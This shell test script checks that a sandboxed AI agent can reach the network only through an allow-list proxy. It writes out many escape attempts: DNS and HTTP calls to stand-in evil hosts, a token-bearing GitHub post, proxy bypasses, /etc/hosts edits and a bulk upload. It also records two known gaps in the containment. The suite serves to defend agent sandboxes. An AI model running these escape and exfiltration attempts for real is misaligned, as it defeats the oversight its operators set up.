#!/bin/sh
# The hostile suite, F: an agent that would reach what it may not, by any way but the proxy, or by the
# proxy itself (threats-entry F). One run tries it all; outside, the same program is the control.
# rows: F1 F2 F3 F4 F5 F6 F7
. "$(dirname "$0")/lib.sh"
in_ns "$@"
. "$ROOT/t/entry/lib.sh"

internet_start
loot_start
cat >loot/reach.py <<'END'
"""Prints a line for each try: NAME yes, or NAME no and the reason."""
import ctypes, os, socket, struct, subprocess

def tries(name, what):
    try:
        what()
        print(name, "yes", flush=True)
    except Exception as error:
        print(name, "no", type(error).__name__, error, flush=True)

def tcp(host, port, family=socket.AF_INET):
    def go():
        s = socket.socket(family); s.settimeout(5); s.connect((host, port))
    return go

def send(host, port, family=socket.AF_INET, kind=socket.SOCK_DGRAM, proto=0):
    return lambda: socket.socket(family, kind, proto).sendto(b"\0" * 64, (host, port))

def ask(server, name, stream=False):
    """A DNS query for name; an answer is a yes."""
    def go():
        labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
        query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
        s.settimeout(2); s.connect((server, 53))
        s.send(struct.pack(">H", len(query)) + query if stream else query)
        if not s.recv(512):
            raise OSError("no answer")
    return go

def unshared(flag):
    def go():
        if ctypes.CDLL(None, use_errno=True).unshare(flag) < 0:
            raise OSError(ctypes.get_errno(), "unshare")
    return go

six = "2606:2800:220:1:248:1893:25c8:1946"
for host, port in (("192.0.2.1", 443), ("10.0.0.1", 443), ("169.254.169.254", 80), ("8.8.8.8", 80),
                   ("8.8.8.8", 443), ("140.82.112.3", 443), ("127.0.0.1", 443), ("127.0.0.1", 80)):
    tries(f"tcp-{host}-{port}", tcp(host, port))
tries("tcp-six", tcp(six, 443, socket.AF_INET6))
tries("udp-quic", send("160.79.104.10", 443))
tries("udp-resolver", send("8.8.8.8", 853))
tries("udp-metadata", send("169.254.169.254", 80))
tries("udp-six", send(six, 443, socket.AF_INET6))
for name, host, port in (("mdns", "224.0.0.251", 5353), ("llmnr", "224.0.0.252", 5355)):
    tries(name, send(host, port))
tries("link-local", send("fe80::1", 80, socket.AF_INET6))
tries("all-nodes", send("ff02::1", 80, socket.AF_INET6))
tries("icmp", send("8.8.8.8", 0, kind=socket.SOCK_RAW, proto=socket.IPPROTO_ICMP))
tries("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300))
tries("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1)))
tries("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0hostile-network"))
for server in ("127.0.0.11", "127.0.0.53", "192.0.2.1", "8.8.8.8"):
    tries(f"dns-{server}", ask(server, "secret-udp.evil.example.net"))
    tries(f"dns-tcp-{server}", ask(server, "secret-tcp.evil.example.net", True))
tries("getent", lambda: subprocess.run(["getent", "ahosts", "secret-libc.evil.example.net"], check=True,
                                       stdout=subprocess.DEVNULL))
tries("route", lambda: subprocess.run(["ip", "route", "add", "8.8.0.0/16", "dev", "lo"], check=True,
                                      stderr=subprocess.DEVNULL))
tries("netns", unshared(0x40000000))
tries("userns", unshared(0x10000000))
END
cat >listen.py <<'END'
import socket, time
s = socket.socket(socket.AF_UNIX); s.bind("\0hostile-network"); s.listen()
open("listening", "w").close()
time.sleep(600)
END
start abstract python3 listen.py
wait_for '[ -e listening ]'
python3 loot/reach.py >outside
recorded dns '"secret" in r["name"]' >asked
traps=$(recorded traps | wc -l)

# What curl says to each: the proxy's answer to CONNECT and the server's, or its exit code.
cat >loot/try.sh <<'END'
c()
{
	name=$1
	shift
	said=$(curl -sS -o /dev/null --max-time 20 -w '%{http_connect} %{http_code}' "$@" 2>/dev/null)
	echo "$name $said $?"
}
p=http://127.0.0.1:3128
c allowed https://api.anthropic.com/
c denied https://evil.example.net/
c github https://api.github.com/gists -H 'Authorization: token ghp_of_the_attacker' -d '{}'
c no-proxy --noproxy '*' https://api.anthropic.com/
https_proxy= HTTPS_PROXY= c unset https://api.anthropic.com/
NO_PROXY='*' no_proxy='*' c NO_PROXY https://api.anthropic.com/
c socks --proxy socks5h://127.0.0.1:3128 https://api.anthropic.com/
python3 -c 'import socket, threading
def pump(a, b):
    while data := a.recv(65536): b.sendall(data)
    b.close()
s = socket.socket(); s.bind(("127.0.0.1", 8888)); s.listen(); open("/tmp/relay", "w").close()
while True:
    a = s.accept()[0]; b = socket.create_connection(("127.0.0.1", 3128))
    for x, y in ((a, b), (b, a)): threading.Thread(target=pump, args=(x, y), daemon=True).start()' 2>/dev/null &
until [ -e /tmp/relay ]; do sleep 0.1; done
c relay-allowed -x http://127.0.0.1:8888 https://api.anthropic.com/
c relay-denied -x http://127.0.0.1:8888 https://evil.example.net/
for f in /etc/hosts /etc/resolv.conf /etc/nsswitch.conf /etc/host.conf; do
	echo '10.66.66.66 api.anthropic.com' >>$f && echo "wrote $f"; done 2>/dev/null
echo 'api.anthropic.com evil.example.net' >/tmp/aliases
HOSTALIASES=/tmp/aliases RES_OPTIONS=debug c names --resolve api.anthropic.com:443:10.66.66.66 https://api.anthropic.com/
c literal --connect-to api.anthropic.com:443:10.66.66.66:443 https://api.anthropic.com/
sni() { name=$1; shift; openssl s_client -proxy 127.0.0.1:3128 -connect api.anthropic.com:443 "$@" </dev/null >/tmp/sni 2>&1
	echo "sni-$name $(grep -c 'BEGIN CERTIFICATE' /tmp/sni)"; }
sni right -servername api.anthropic.com
sni wrong -servername evil.example.net
sni none -noservername
c inner -H 'Host: evil.example.net' https://api.anthropic.com/inner
head -c 3000000 /dev/zero >/tmp/data
c upload https://api.anthropic.com/v1/files -H 'x-api-key: key-of-the-attacker' --data-binary @/tmp/data
c metrics --noproxy '*' $p/metrics
c root --noproxy '*' $p/
c phase --noproxy '*' -X PUT $p/phase/ship
c phase-key --noproxy '*' -X PUT -H "Authorization: Bearer $(printf %064d 0)" $p/phase/ship
for target in 127.0.0.1 localhost proxy 192.0.2.1 '[::1]' 0.0.0.0 2130706433; do
	c "loop-$target" -x $p -p http://$target:3128/; done
END
hostile 'F: every way out that is none' 0 'python3 /loot/reach.py >/loot/inside 2>&1; sh /loot/try.sh >/loot/tries 2>&1
	awk "\$4 == \"0A\" {print \$2}" /proc/net/tcp /proc/net/tcp6 | grep -v :22B8 >/loot/listening; echo x >x' --proxy-log "$TMP/proxy.log"

# F1, F2: nothing inside, and what is tried is worth trying.
is "$(grep -c ' yes' loot/inside)" 0 'F1: nothing answers but the proxy, by any protocol'
grep ' yes' loot/inside | while read -r line; do diag "$line"; done
is "$(wc -l <loot/inside)" "$(wc -l <outside)" 'F1: control: all of it was tried'
for name in tcp-192.0.2.1-443 tcp-10.0.0.1-443 tcp-169.254.169.254-80 tcp-8.8.8.8-443 tcp-140.82.112.3-443 \
	tcp-127.0.0.1-443 tcp-six udp-quic udp-metadata udp-six abstract dns-127.0.0.53 getent; do
	like outside "^$name yes" "F1: control: outside there is $name"
done
is "$(cat loot/listening)" 0100007F:0C38 'F1: the proxy is all that listens, on one address'
ok 'F2: control: outside the names are asked for' test -s asked
is "$(recorded dns '"secret" in r["name"] or r["name"].startswith("evil")' | wc -l)" "$(wc -l <asked)" \
	'F2: no query of the agent left'
is "$(recorded traps | wc -l)" "$traps" 'F1: and no connection'

# said NAME "CONNECT-CODE CODE EXIT" WHAT
said()
{
	is "$(sed -n "s/^$1 //p" loot/tries)" "$2" "$3"
}
said allowed '200 200 0' 'F3: control: the model answers through the proxy'
said denied '403 000 56' 'F3: what is not listed does not'
said github '403 000 56' 'F6: GitHub is closed, with whosever token'
said no-proxy '000 000 6' 'F3: without the proxy there is nothing, not even the name'
said unset '000 000 6' 'F3: nor with the variables unset'
said NO_PROXY '000 000 6' 'F3: nor with NO_PROXY'
is "$(sed -n 's/^socks 000 000 //p' loot/tries | grep -vc '^0$')" 1 'F3: the port does not speak SOCKS'
said relay-allowed '200 200 0' 'F3: by a relay of its own: the same'
said relay-denied '403 000 56' 'F3: and the same'
is "$(grep -c '^wrote' loot/tries)" 0 'F4: /etc cannot be written'
said names '200 200 0' 'F4: names of its own change nothing: the proxy resolves'
like loot/tries '^literal 40[03] ' 'F4: an address is refused'
is "$(sed -n 's/^sni-//p' loot/tries | tr '\n' ' ')" 'right 1 wrong 0 none 0 ' 'F5: the name in the ClientHello counts'
# The two that do not hold, as docs/threat-model.md says: t/docs-limits.t.
is "$(recorded requests 'r["path"] == "/inner" and r["host"] == "evil.example.net"' | wc -l)" 1 \
	'F5: limit: the Host inside the TLS is not seen'
said upload '200 200 0' 'F6: limit: an allowed host takes it with any key'
up=$(python3 -c 'import json
print(max(r["up"] for r in map(json.loads, open("proxy.log")) if r.get("host") == "api.anthropic.com"))')
ok 'F6: but the log counts its bytes' test "$up" -ge 3000000
for name in metrics root phase phase-key; do
	like loot/tries "^$name 000 4[0-9][0-9] " "F7: the proxy has nothing for the agent: $name"
done
is "$(grep -c '^loop-' loot/tries)" 7 'F7: control: the proxy was asked for itself'
is "$(grep '^loop-' loot/tries | grep -vcE ' (400|403) 000 ')" 0 'F7: it connects to no form of itself'
stop abstract
done_testing
